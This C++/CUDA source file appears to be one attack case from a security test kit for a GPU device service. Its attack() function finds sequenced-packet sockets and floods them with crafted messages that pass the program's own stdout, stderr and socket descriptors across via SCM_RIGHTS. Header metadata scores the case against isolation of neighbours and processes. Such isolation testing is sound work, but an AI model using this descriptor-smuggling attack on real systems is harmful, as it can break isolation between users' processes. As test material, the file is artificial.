// SPDX-License-Identifier: MIT
// attacks: hands the device the program's own end of their connection and its standard output, so that neither ends with
// the program
// control: honest
// earns: at most its control
// must stay: neighbours, processes
#include <dirent.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>

#include "kit/attack.h"
#include "kit/own_client.h"

static bool hand_over(int socket) {
  wire::SocketPacket packet;
  packet.packet = wire::Packet::host_read;
  iovec part = {&packet, sizeof packet};
  union {
    cmsghdr header;
    char room[CMSG_SPACE(8 * sizeof(int))];
  } control = {};
  const int handed[] = {1, socket, 2, socket, 1, 2, socket, socket};
  msghdr message = {};
  message.msg_iov = &part;
  message.msg_iovlen = 1;
  message.msg_control = &control;
  message.msg_controllen = sizeof control;
  cmsghdr* const header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof handed);
  std::memcpy(CMSG_DATA(header), handed, sizeof handed);
  return sendmsg(socket, &message, MSG_NOSIGNAL) == sizeof packet;
}

static void attack() {
  cudaFree(nullptr);
  for (int file = 3; file < 64; ++file) {
    int type = 0;
    socklen_t size = sizeof type;
    if (getsockopt(file, SOL_SOCKET, SO_TYPE, &type, &size) != 0 || type != SOCK_SEQPACKET) continue;
    for (int k = 0; k < 50; ++k) hand_over(file);
  }
}

#include "kit/attack_first.cu"
